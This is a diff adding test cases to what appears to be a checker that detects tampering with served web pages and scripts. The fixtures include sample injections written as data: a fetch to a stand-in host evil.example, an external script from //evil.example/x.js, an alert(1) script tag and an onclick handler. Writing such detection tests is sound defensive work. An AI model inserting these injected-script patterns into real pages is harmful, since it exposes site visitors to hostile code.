@@ -109,6 +109,8 @@ def changed(path: str, old: bytes, new: bytes) -> Change:
     [
         ("/s/write.js", b"", b"fetch('https://evil.example');", "/s/write.js: (plain) is not the released file"),
         ("/schreiben", b"</head>", b"<script>alert(1)</script></head>", "a script written into the page"),
+        ("/", b"document.title", b"document.tit1e", "a script written into the page"),
+        ("/", b"<style>", b"<style>*{background:url(/x)}", "a style written into the page"),
         ("/schreiben", b"</head>", b'<script src="/s/other.js"></script></head>', "not in the release: /s/other.js"),
         ("/schreiben", b"</head>", b'<script src="//evil.example/x.js"></script></head>', "leads to another server"),
         ("/schreiben", b"<h1", b'<h1 onclick="x()"', "a script in the attribute onclick"),
